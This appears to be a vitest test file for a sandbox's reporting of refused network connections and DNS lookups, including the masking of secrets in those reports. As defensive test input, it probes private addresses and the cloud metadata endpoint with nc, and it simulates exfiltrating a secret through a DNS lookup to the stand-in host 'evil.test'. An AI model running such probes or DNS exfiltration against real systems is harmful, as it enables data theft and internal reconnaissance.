import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { machine, publicHosts } from '../../testing/agent/internet/fake-internet.ts'
import { type ResolvingAgent, startResolvingAgent } from '../../testing/agent/internet/resolving-agent.ts'
import { shellJob, type TestAgent, waitUntil } from '../../testing/agent/test-agent.ts'
import type { AllowList } from '../port/allow-list.ts'
import type { Refusal } from '../port/network-refusals.ts'
import { type SandboxRuntime, sandboxRuntimes } from '../port/sandbox-spec.ts'
import { inputOf } from '../port/start-input.ts'
import { parseRecords } from './refusals.ts'

/* Reports of a sandbox's refused connections. */

let machineOfAgent: ResolvingAgent
let agent: TestAgent
let folder: string
let image: string

beforeAll(async () => {
  machineOfAgent = await startResolvingAgent(['10.9.9.9'])
  ;({ agent, folder } = machineOfAgent)
  await agent.onHost(
    'cc',
    '-static',
    '-o',
    `${folder}/datagram`,
    join(import.meta.dirname, '../../testing/agent/internet/datagram.c'),
  )
  image = await agent.image([[{ name: 'datagram', mode: 0o755 }, await readFile(`${folder}/datagram`)]])
})
afterAll(() => machineOfAgent.dispose())

interface Job {
  allow?: AllowList
  runtime?: SandboxRuntime
}

async function refusedTo(script: string, { allow, runtime = 'crun' }: Job = {}) {
  const network = { egressCapBytes: 1024 ** 3, ...(allow && { allow }) }
  const spec = { ...shellJob(image, script, { timeoutMs: 60_000, runtime }), network }
  return (await agent.run(spec)).exit.network.refused
}

const without = ({ firstAt: _first, lastAt: _last, ...rest }: Refusal) => rest
const connect = (address: string, port: number) => `echo | nc -w 1 ${address} ${port} 2>/dev/null`
const hex4 = (address: string) => Buffer.from(address.split('.').map(Number)).toString('hex')

describe.each(sandboxRuntimes)('on %s', (runtime) => {
  test('each refused connection is reported with its reason, equal ones as one entry with a count', async () => {
    const before = Date.now()
    const script = [
      ...['10.9.9.9', '10.9.9.9', '10.9.9.9', '169.254.169.254', machine.ip4].map((ip) => connect(ip, 80)),
      ...[connect(machine.ip6, 22), connect(publicHosts.ip4, 53), connect(publicHosts.ip4, 443)],
      `/datagram x 123 - 10.9.9.9; sleep 0.2`,
    ].join('; ')
    const refused = await refusedTo(script, { runtime })
    const tcp = { protocol: 'tcp', name: '', port: 80, count: 1 }
    expect(refused?.entries.map(without)).toEqual([
      { ...tcp, reason: 'not_public_address', address: '10.9.9.9', count: 3 },
      { ...tcp, reason: 'metadata_address', address: '169.254.169.254' },
      { ...tcp, reason: 'host_address', address: machine.ip4 },
      { ...tcp, reason: 'host_address', address: machine.ip6, port: 22 },
      { ...tcp, reason: 'foreign_resolver', address: publicHosts.ip4, port: 53 },
      { ...tcp, reason: 'not_public_address', protocol: 'udp', address: '10.9.9.9', port: 123 },
    ])
    expect(refused?.more).toBe(0)
    const [first, last] = [refused?.entries[0]?.firstAt ?? '', refused?.entries.at(-1)?.lastAt ?? '']
    expect(Date.parse(first)).toBeGreaterThanOrEqual(before)
    expect(Date.parse(last)).toBeLessThanOrEqual(Date.now())
    // Times are those of the resolver's reading, which may be one for all on a busy machine.
    expect(Date.parse(first)).toBeLessThanOrEqual(Date.parse(last))
  })
})

test('names and addresses outside an allow list are reported', async () => {
  const inside = `${hex4('10.9.9.9')}.test`
  const names = ['Secret.Example.TEST', inside]
  const script = `${names.map((name) => `nslookup -type=a ${name}`).join('; ')}; ${connect(publicHosts.other4, 443)}; true`
  const refused = await refusedTo(script, { allow: { names: [inside], ranges: [] } })
  const asked = { protocol: 'dns', port: 0, count: 1 }
  expect(refused?.entries.map(without)).toEqual([
    { ...asked, reason: 'name_not_in_allow_list', name: 'secret.example.test', address: '' },
    { ...asked, reason: 'name_has_inner_address', name: inside, address: '10.9.9.9' },
    {
      reason: 'not_in_allow_list',
      protocol: 'tcp',
      name: '',
      address: publicHosts.other4,
      port: 443,
      count: 1,
    },
  ])
})

describe('a masked value', () => {
  const secret = 'tr0ub4dor-and-3'
  const spec = () => ({
    ...shellJob(image, `nslookup -type=a ${secret}.evil.test; sleep 1`, { timeoutMs: 60_000 }),
    network: { egressCapBytes: 1024 ** 3, allow: { names: [], ranges: [] } },
  })
  const kept = async (id: string) =>
    await agent.onHost('grep', '-rlF', secret, `${agent.dataDir}/agent/sandboxes/${id}`).catch(() => '')

  test('does not appear in refused names', async () => {
    const asking = spec()
    await agent.client.start(asking, inputOf(Buffer.alloc(0), { masked: [secret] }))
    const { network } = await agent.client.wait(asking.id)
    expect(network.refused?.entries.map(({ name }) => name)).toEqual(['[masked].evil.test'])
    // Only this test's own command line contains it.
    expect(await kept(asking.id)).not.toContain('refusals')
  })

  test('stays masked after the agent that knew it has died', async () => {
    const asking = spec()
    await agent.client.start(asking, inputOf(Buffer.alloc(0), { masked: [secret] }))
    await agent.end('SIGKILL')
    await agent.start()
    const { network } = await agent.client.wait(asking.id)
    for (const { name } of network.refused?.entries ?? []) expect(name).toBe('[masked]')
    expect(await kept(asking.id)).not.toContain('refusals')
  })
})

test('a sandbox without refusals has no list of them', async () => {
  expect(await refusedTo(connect(publicHosts.ip4, 80))).toBeUndefined()
})

test('refusals of one sandbox are not reported for another', async () => {
  const [one, other] = await Promise.all([
    refusedTo(connect('10.9.9.9', 81)),
    refusedTo(connect('10.9.9.9', 82)),
  ])
  expect([one, other].map((refused) => refused?.entries.map(({ port }) => port))).toEqual([[81], [82]])
})

test('a name of arbitrary bytes is reported as printable text of bounded length', async () => {
  const question = String.raw`\000\032\022\064\001\000\000\001\000\000\000\000\000\000\010\033[1m\n\000.,\000\000\001\000\001`
  const long = `${'%'.repeat(60)}.`.repeat(4)
  const script = `printf '${question}' | timeout 2 nc 198.18.0.1 53 >/dev/null; nslookup -type=a '${long}test'; true`
  const refused = await refusedTo(script, { allow: { names: [], ranges: [] } })
  const [odd, cut] = refused?.entries.map(({ name }) => name) ?? []
  expect(odd).toBe(String.raw`\027\0911m\010\000\046\044`)
  expect(cut).toMatch(/^(\\037){60}\.\\037.*\.\.\.$/)
  expect(cut?.length).toBeLessThanOrEqual(255)
})

test('a flood of refused connections and names is bounded, counted, and costs the others nothing', async () => {
  const calm = 'sleep 1; nslookup 08080808.test | grep -q 8.8.8.8 && echo fine'
  const flood = `i=0; while [ $i -lt 2000 ]; do i=$((i+1)); /datagram x $i - 10.9.9.9; done
    i=0; while [ $i -lt 400 ]; do i=$((i+1)); nslookup -type=a n$i.test >/dev/null; done`
  const [refused, other] = await Promise.all([
    refusedTo(flood, { allow: { names: [], ranges: [] } }),
    agent.run({ ...shellJob(image, calm), network: { egressCapBytes: 1024 ** 3 } }),
  ])
  expect(other.log).toBe('fine\n')
  expect(refused?.entries).toHaveLength(200)
  expect(refused?.more).toBeGreaterThan(200)
  console.log(`2000 datagrams and 400 names refused: 200 listed, ${refused?.more} counted`)
})

test('a sandbox counts as a source of refusals for a minute after the last one', async () => {
  await refusedTo(connect('10.9.9.9', 84))
  const maker = (await agent.onHost('pgrep', '-P', String(agent.process?.pid), '-x', 'links')).trim()
  const listing = ['nft', '-j', 'list', 'set', 'inet', 'sandbox_jobs', 'noted4']
  const { nftables } = JSON.parse(await agent.onHost('nsenter', `--net=/proc/${maker}/ns/net`, ...listing))
  const { set } = nftables.find((entry: object) => 'set' in entry)
  expect(set).toMatchObject({ timeout: 60, elem: expect.arrayContaining([expect.anything()]) })
})

test('refusals can be read again, also by the next agent', async () => {
  const network = { egressCapBytes: 1024 ** 3 }
  const spec = { ...shellJob(image, connect('10.9.9.9', 83)), network }
  await agent.run(spec)
  await agent.end('SIGTERM')
  await agent.start()
  await waitUntil(async () => (await agent.client.wait(spec.id)).network.refused?.entries[0]?.port === 83)
})

test('malformed lines of a resolver are dropped', () => {
  const good = 'refused 1 6 10.0.0.1 80 2 1000 2000 -'
  const bad = ['refused 99 6 - 80 1 1 1 -', 'refused 1 6 <b> 80 1 1 1 -', 'refused 1 6 - 80 1 1 1 <b>', 'x']
  expect(parseRecords([...bad, good, 'more 7 0']).refused).toEqual({
    entries: [
      {
        ...{
          reason: 'not_public_address',
          protocol: 'tcp',
          name: '',
          address: '10.0.0.1',
          port: 80,
          count: 2,
        },
        ...{ firstAt: '1970-01-01T00:00:01.000Z', lastAt: '1970-01-01T00:00:02.000Z' },
      },
    ],
    more: 7,
  })
})
